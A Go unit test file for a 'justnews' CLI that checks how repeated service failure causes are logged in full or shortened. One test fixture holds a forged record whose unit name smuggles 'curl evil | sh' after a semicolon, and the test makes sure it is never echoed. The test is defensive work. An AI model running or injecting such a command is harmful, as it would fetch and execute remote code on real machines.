// SPDX-License-Identifier: Apache-2.0

package cli

import (
	"fmt"
	"testing"

	"justnews/internal/diag"
	"justnews/internal/status"
)

func TestJournal_SharedCauseIsLoggedInFullOnce(t *testing.T) {
	var s said
	now, told, own := 60.0, map[saying]int{}, map[string]float64{}
	say := func(unit, cause string) (saying, string) {
		how, by := s.refused(unit, cause, cause, own[unit], now)
		if told[how]++; how != sayNothing {
			own[unit] = now
		}
		return how, by
	}
	for i := range 17 {
		say(fmt.Sprintf("justnews@agent_%d.service", i), "BUS-UNREACHABLE")
	}
	if told[sayWhole] != 1 || told[sayShort] != 16 {
		t.Errorf("the first time: %v", told)
	}
	for range 10 { // every six seconds, for a minute
		now += 6
		for i := range 17 {
			say(fmt.Sprintf("justnews@agent_%d.service", i), "BUS-UNREACHABLE")
		}
	}
	if told[sayWhole] != 1 || told[sayShort] != 16+17 {
		t.Errorf("a minute later: %v", told)
	}
	if how, by := say("justnews@agent_3.service", "GPU-NONE"); how != sayWhole || by != "justnews@agent_3.service" {
		t.Errorf("another cause: %v by %s", how, by)
	}
	now += saidWholeFor.Seconds()
	if how, _ := say("justnews@agent_5.service", "BUS-UNREACHABLE"); how != sayWhole {
		t.Errorf("an hour later: %v", how)
	}
}

func TestJournal_CauseIsLoggedInFullAgainAfterASuccess(t *testing.T) {
	var s said
	s.refused("justnews@scout.service", "BUS-UNREACHABLE", "BUS-UNREACHABLE", 0, 60)
	if !s.passed("justnews@scout.service") || s.passed("justnews@scout.service") {
		t.Error("what was said is not forgotten once")
	}
	if how, _ := s.refused("justnews@scout.service", "BUS-UNREACHABLE", "BUS-UNREACHABLE", 0, 120); how != sayWhole {
		t.Errorf("%v", how)
	}
}

func TestJournal_ForgedRecordsOnlyShortenLines(t *testing.T) {
	forged := said{Whole: map[string]saidOnce{
		"A": {"justnews@x.service; curl evil | sh", 10}, // would be pasted
		"B": {"justnews@x.service", 1e12},               // would hold forever
	}}
	for _, cause := range []string{"A", "B"} {
		if how, by := forged.refused("justnews@scout.service", cause, cause, 0, 60); how != sayWhole || by != "justnews@scout.service" {
			t.Errorf("%s: %v by %s", cause, how, by)
		}
	}
	forged.Whole["C"] = saidOnce{"justnews@x.service", 59}
	if how, _ := forged.refused("justnews@scout.service", "C", "C", 0, 60); how != sayShort {
		t.Errorf("a forged record hides the line: %v", how)
	}
	if how, _ := forged.refused("justnews@scout.service", "C", "C", 1e12, 60); how != sayShort {
		t.Errorf("a time to come hides the line: %v", how)
	}
	for i := range 10_000 {
		forged.refused("justnews@scout.service", fmt.Sprint(i), fmt.Sprint(i), 0, 60)
	}
	if len(forged.Whole) > saidAtMost {
		t.Errorf("%d entries", len(forged.Whole))
	}
}

// What the preload says of an agent's model has that agent's name in it, and the
// agent's own gate says the same of itself.
func TestJournal_CauseThatNamesTheInstanceIsShared(t *testing.T) {
	var s said
	p := diag.Problem{Code: diag.StoreSnapshot, Subject: "scout", Message: "org/bert: the model has no snapshot"}
	for i, c := range []struct {
		unit, instance string
		want           saying
	}{
		{"justnews-preload.service", "", sayWhole},
		{"justnews@scout.service", "scout", sayShort},
		{"justnews@critic.service", "critic", sayShort},
	} {
		how, by := s.refused(c.unit, status.Key(p, c.instance), status.Key(p, ""), 0, 60)
		if how != c.want || by != "justnews-preload.service" {
			t.Errorf("%d: %v by %s", i, how, by)
		}
	}
	own := diag.Problem{Code: diag.UnitStale, Subject: "justnews@scout.service", Message: "the unit is stale"}
	s = said{}
	s.refused("justnews@scout.service", status.Key(own, "scout"), status.Key(own, ""), 0, 60)
	own.Subject = "justnews@critic.service"
	if how, _ := s.refused("justnews@critic.service", status.Key(own, "critic"), status.Key(own, ""), 0, 60); how != sayShort {
		t.Errorf("the same of another instance: %v", how)
	}
}
